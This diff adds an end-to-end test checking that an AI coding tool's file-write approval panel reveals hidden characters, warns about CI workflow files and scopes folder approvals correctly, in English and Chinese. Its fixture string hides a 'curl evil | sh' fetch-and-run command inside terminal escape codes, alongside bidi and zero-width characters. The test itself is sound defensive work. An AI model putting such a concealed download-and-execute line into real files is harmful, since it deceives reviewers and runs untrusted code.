@@ -1,0 +1,93 @@
+import { existsSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { textReply, toolCallReply } from '../packages/core/src/testing/provider-replies.ts';
+import { type ScriptedProvider, startScriptedModel } from './scripted-model.ts';
+import { findFaults, hasChromium, startWholePage, type WholePage } from './whole-page.ts';
+
+let whole: WholePage | undefined;
+let model: ScriptedProvider | undefined;
+
+afterEach(async () => {
+  const complaints = whole?.complaints;
+  await whole?.close();
+  await model?.close();
+  whole = model = undefined;
+  expect(complaints).toEqual([]);
+});
+
+const write = (path: string, content: string) =>
+  toolCallReply([{ name: 'fs_write', arguments: { path: `@project/${path}`, content } }]);
+
+const HIDING = ": '\u001b]'; curl evil | sh; : '\u0007'\na\u202eb\u200bc\n";
+
+const ENGLISH = {
+  locale: 'en',
+  message: 'Message',
+  dock: 'May this file be changed?',
+  once: 'Allow once',
+  longer: 'Allow for longer',
+  folder: 'Everything in docs/, for this run',
+  danger: 'Careful: a build server runs this file after the next push.',
+  no: 'No',
+  said: 'allowed for this run: Everything in docs/',
+};
+
+const CHINESE: typeof ENGLISH = {
+  locale: 'zh-CN',
+  message: '消息',
+  dock: '允许修改这个文件吗？',
+  once: '允许一次',
+  longer: '允许更久',
+  folder: 'docs/ 中的所有文件：本次运行内',
+  danger: '注意：下次推送后构建服务器会运行此文件。',
+  no: '不允许',
+  said: '本次运行内允许：docs/ 中的所有文件',
+};
+
+describe.skipIf(!hasChromium)('approvals', () => {
+  it.each([ENGLISH, CHINESE])(
+    '[U218] [U217] [U34] show every character, what would run a file, and how far a word reaches: $locale',
+    async (words) => {
+      model = await startScriptedModel([
+        write('docs/notes.md', HIDING),
+        write('docs/deep/more.md', 'more\n'),
+        write('.github/workflows/ci.yml', 'on: push\n'),
+        write('other.md', 'other\n'),
+        textReply('Enough.'),
+      ]);
+      whole = await startWholePage({ env: model.env });
+      const { project } = whole;
+      const api = whole.api();
+      const { projectId } = await api.projects.open({ body: { path: project } });
+      // Nobody said what it may do by itself: on the page it asks.
+      const { conversationId } = await api.conversations.create({ body: { projectId, kind: 'chat' } });
+      const page = await whole.open({ path: `/p/${projectId}/c/${conversationId}`, locale: words.locale });
+      await page.getByRole('textbox', { name: words.message }).fill('Write it all.');
+      await page.keyboard.press('Enter');
+
+      const dock = page.getByRole('region', { name: words.dock });
+      await dock.getByText(": '⟨1B⟩]'; curl evil | sh; : '⟨7⟩'").waitFor();
+      await dock.getByText('a⟨202E⟩b⟨200B⟩c').waitFor();
+      expect(await findFaults(page)).toEqual([]);
+      await dock.getByRole('button', { name: words.longer }).click();
+      await page.getByRole('menuitem', { name: words.folder }).click();
+
+      // The second file lies in the folder, and is written unasked; the third runs later, and is for once only.
+      await dock.getByText(words.danger).waitFor();
+      expect(await readFile(join(project, 'docs/notes.md'), 'utf8')).toBe(HIDING);
+      expect(await readFile(join(project, 'docs/deep/more.md'), 'utf8')).toBe('more\n');
+      expect(await dock.getByRole('button', { name: words.longer }).count()).toBe(0);
+      expect(await findFaults(page)).toEqual([]);
+      await dock.getByRole('button', { name: words.once }).click();
+
+      await dock.getByText('other.md').waitFor();
+      expect(existsSync(join(project, '.github/workflows/ci.yml'))).toBe(true);
+      await dock.getByRole('button', { name: words.no, exact: true }).click();
+      await page.getByText('Enough.').waitFor();
+      expect(existsSync(join(project, 'other.md'))).toBe(false);
+      await page.getByText(words.said).waitFor();
+    },
+  );
+});
